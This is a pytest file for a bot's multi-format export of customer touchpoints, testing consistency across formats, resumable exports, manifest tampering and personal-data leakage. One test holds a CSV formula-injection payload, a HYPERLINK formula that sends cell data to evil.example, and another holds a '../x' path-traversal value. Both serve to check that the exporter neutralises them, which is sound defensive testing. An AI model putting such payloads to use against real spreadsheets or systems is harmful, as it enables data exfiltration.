"""The same touchpoints and figures from every format, whole or not at all, and from where the last export ended."""

import asyncio
import csv
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import duckdb
import pytest

from bot.cx.exports.lines import FORMULAS, scrub_csv, write_csv
from bot.cx.exports.manifest import MANIFEST
from bot.errors import BotError, Refused
from bot.operations.export import Wanted, export
from bot.records import Touchpoint
from bot.settings import Settings
from bot.touchpoints.columns import COLUMNS, row
from bot.touchpoints.export import cloud_event
from bot.web.services import Services
from tests.outside.test_events import event

XES = "{http://www.xes-standard.org/}"
FORMATS = ("jsonl", "csv", "parquet", "xes")


async def written(settings: Settings, format_: str, out: Path, **more: Any) -> tuple[int, int]:
    made = await asyncio.to_thread(export, settings, Wanted(format_, out, **more))
    return made.count, made.position


def xes_rows(path: Path) -> Iterator[dict[str, str]]:
    for trace in ElementTree.parse(path).getroot().findall(f"{XES}trace"):
        [subject] = [one.get("value") for one in trace if one.get("key") == "concept:name"]
        for one in trace.findall(f"{XES}event"):
            yield {"subject": subject or "", **{str(it.get("key")): str(it.get("value")) for it in one}}


def figures(database: duckdb.DuckDBPyConnection, table: str) -> list[Any]:
    """What a report is made of, by plain SQL; times in milliseconds, so that each format has them alike."""
    return database.sql(
        f"""SELECT type, count(*), count(DISTINCT subject), count(DISTINCT customer_ref),
            count(DISTINCT conversation_id),
            sum(CAST(score AS DOUBLE)), sum(CAST(amount AS DOUBLE)), round(sum(CAST(confidence AS DOUBLE)), 9),
            count(*) FILTER (CAST(in_scope AS BOOLEAN)), max(CAST(seq AS BIGINT)), sum(CAST(position AS BIGINT)),
            min(epoch_ms(CAST(time AS TIMESTAMPTZ))), max(epoch_ms(CAST(time AS TIMESTAMPTZ))),
            count(DISTINCT stage || coalesce(stage_method, '')), min(source)
        FROM {table} GROUP BY type ORDER BY type"""
    ).fetchall()


async def test_every_format_has_the_same_touchpoints_and_figures(
    filled: Services, settings: Settings, tmp_path: Path
) -> None:
    everything = await filled.log.tail(0, 10_000)
    made = {name: await written(settings, name, tmp_path / f"out.{name}") for name in FORMATS}
    assert set(made.values()) == {(len(everything), everything[-1].position)}
    database = duckdb.connect()
    database.sql("SET TimeZone = 'UTC'")
    events = [json.loads(line) for line in (tmp_path / "out.jsonl").read_text().splitlines()]
    assert events == [cloud_event(one, "urn:bot") for one in everything]
    # Each is read by its own reader, none of them ours.
    database.sql(
        f"""CREATE TABLE jsonl AS SELECT e.* EXCLUDE (data), unnest(e.data) FROM read_json('{tmp_path}/out.jsonl',
        columns = {{position: 'BIGINT', id: 'VARCHAR', source: 'VARCHAR', type: 'VARCHAR', time: 'VARCHAR',
        subject: 'VARCHAR', data: 'STRUCT({_struct()})'}}) e"""
    )
    database.sql(f"CREATE TABLE csv AS SELECT * FROM read_csv('{tmp_path}/out.csv', all_varchar = true, nullstr = '')")
    database.sql(f"CREATE VIEW parquet AS SELECT * FROM read_parquet('{tmp_path}/out.parquet/*/*.parquet')")
    expected = figures(database, "jsonl")
    assert len(expected) > 8
    assert figures(database, "csv") == expected
    assert figures(database, "parquet") == expected
    days = database.sql("SELECT DISTINCT day, CAST(time AS DATE) FROM parquet").fetchall()
    assert all(day == of_time for day, of_time in days)
    assert len(days) == 4
    flat = [{name: str(value) for name, value in row(one).items()} for one in events]
    found = sorted(xes_rows(tmp_path / "out.xes"), key=lambda one: int(one["position"]))
    assert [one["concept:name"] for one in found] == [one["type"] for one in events]
    for one, sent in zip(found, flat, strict=True):
        assert one["subject"] == sent["subject"]
        assert one["time:timestamp"] == sent["time"]
        more = {
            name: value.lower() for name, value in sent.items() if name not in ("type", "time", "subject", "source")
        }
        assert {name: one[name].lower() for name in more} == more
    # Nothing in any of them names a person.
    said = b"".join(path.read_bytes() for path in tmp_path.rglob("out.*") if path.is_file())
    assert b"lena" not in said
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as file:
        assert list(next(csv.reader(file))) == list(COLUMNS)


_DATA = [
    name for name in COLUMNS if name not in ("position", "id", "source", "type", "time", "recordedtime", "subject")
]


def _struct() -> str:
    return ", ".join(f'"{name}" VARCHAR' for name in _DATA)


@pytest.mark.parametrize("format_", ["jsonl", "csv", "parquet"])
async def test_an_export_goes_on_where_it_ended(
    filled: Services, settings: Settings, tmp_path: Path, format_: str
) -> None:
    folder = tmp_path / "parts"
    with pytest.raises(Refused, match="some would never come"):
        await written(settings, format_, folder, goes_on=True, until="2026-01-31")
    first = await written(settings, format_, folder, goes_on=True)
    assert await written(settings, format_, folder, goes_on=True) == (0, first[1])
    await filled.ingest.take([event(id="later", data={"customer_id": "c1", "score": 5})])
    head = (await filled.log.last_position()) - first[1]
    # A run that was killed leaves a part that nobody has named, and one that was being written.
    stray = folder / "day=2026-03-01" / "part-9_0.parquet" if format_ == "parquet" else folder / f"part-9.{format_}"
    stray.write_bytes(b"half")
    (folder / ".bot-left").mkdir()
    assert await written(settings, format_, folder, goes_on=True) == (head, first[1] + head)
    assert not stray.exists()
    assert not (folder / ".bot-left").exists()
    reader = {"jsonl": f"read_json('{folder}/*.jsonl', columns = {{position: 'BIGINT'}})"}
    reader["csv"] = f"read_csv('{folder}/*.csv', all_varchar = true, union_by_name = true)"
    reader["parquet"] = f"read_parquet('{folder}/*/*.parquet')"
    positions = duckdb.sql(f"SELECT CAST(position AS BIGINT) FROM {reader[format_]}").fetchall()
    assert sorted(one for (one,) in positions) == [one.position for one in await filled.log.tail(0, 10_000)]
    for other, reason in ((FORMATS[3], "anew"), ("csv" if format_ == "jsonl" else "jsonl", "go on with the same")):
        with pytest.raises(Refused, match=reason):
            await written(settings, other, folder, goes_on=True)
    manifest = json.loads((folder / MANIFEST).read_text())
    (folder / MANIFEST).write_text(json.dumps({**manifest, "position": 10**6}))
    with pytest.raises(Refused, match="an older copy of the log was put back"):
        await written(settings, format_, folder, goes_on=True)


async def test_times_and_positions_choose_what_is_written(filled: Services, settings: Settings, tmp_path: Path) -> None:
    everything = await filled.log.tail(0, 10_000)
    old = [one for one in everything if one.time < 1_780_000_000_000]
    for format_ in FORMATS:
        out = tmp_path / f"some.{format_}"
        assert (await written(settings, format_, out, until="2026-05-01"))[0] == len(old) == 3
        assert (await written(settings, format_, out, since="2026-05-01"))[0] == len(everything) - len(old)
        assert (await written(settings, format_, out, after=everything[9].position))[0] == len(everything) - 10
    with pytest.raises(BotError, match="no date"):
        await written(settings, "csv", tmp_path / "x", since="soon")
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "letter.txt").write_text("dear")
    for goes_on in (False, True):
        with pytest.raises(Refused):
            await written(settings, "parquet", tmp_path / "mine", goes_on=goes_on)
    assert [path.name for path in tmp_path.glob("*unfinished*")] == []
    assert (tmp_path / "mine" / "letter.txt").read_text() == "dear"


@pytest.mark.parametrize("begin", FORMULAS)
def test_a_text_in_csv_is_no_formula_and_a_number_is_a_number(tmp_path: Path, begin: str) -> None:
    text = f'{begin}HYPERLINK("http://evil.example/?"&A1)'
    facts = {"customer_ref": "c", "text": text, "mood": -0.5, "reason": "a-b"}
    event_ = cloud_event(Touchpoint("i", "conversation/x", 1, "message.received", 0, facts, {}, "c"), "urn:bot")

    async def events() -> AsyncIterator[dict[str, Any]]:
        yield event_

    out = tmp_path / "out.csv"
    for _ in range(2):
        asyncio.run(write_csv(events(), out)) if not out.exists() else scrub_csv(out, {"another"})
        with out.open(newline="", encoding="utf-8") as file:
            [found] = csv.DictReader(file)
        assert (found["text"], found["mood"], found["reason"]) == (f"'{text}", "-0.5", "a-b")


@pytest.mark.parametrize("format_", ["jsonl", "csv", "parquet"])
async def test_a_folder_that_is_not_whole_is_not_gone_on_with(
    filled: Services, settings: Settings, tmp_path: Path, format_: str
) -> None:
    folder = tmp_path / "parts"
    for _ in range(3):
        await written(settings, format_, folder, goes_on=True)
    manifest = json.loads((folder / MANIFEST).read_text())
    parts = [path.relative_to(folder).as_posix() for path in folder.rglob("part-*")]
    assert sorted(parts) == sorted(manifest["parts"])  # nothing new adds no part
    assert len(parts) == (4 if format_ == "parquet" else 1)
    for wrong in ({"position": "2641"}, {"position": True}, {"parts": "part-1"}, {"parts": ["../x"]}, {"texts": 1}):
        (folder / MANIFEST).write_text(json.dumps({**manifest, **wrong}))
        with pytest.raises(Refused, match="is damaged"):
            await written(settings, format_, folder, goes_on=True)
    (folder / MANIFEST).write_text(json.dumps(manifest))
    (folder / parts[0]).unlink()
    with pytest.raises(Refused, match="is gone; put it back, or remove the folder and export anew"):
        await written(settings, format_, folder, goes_on=True)
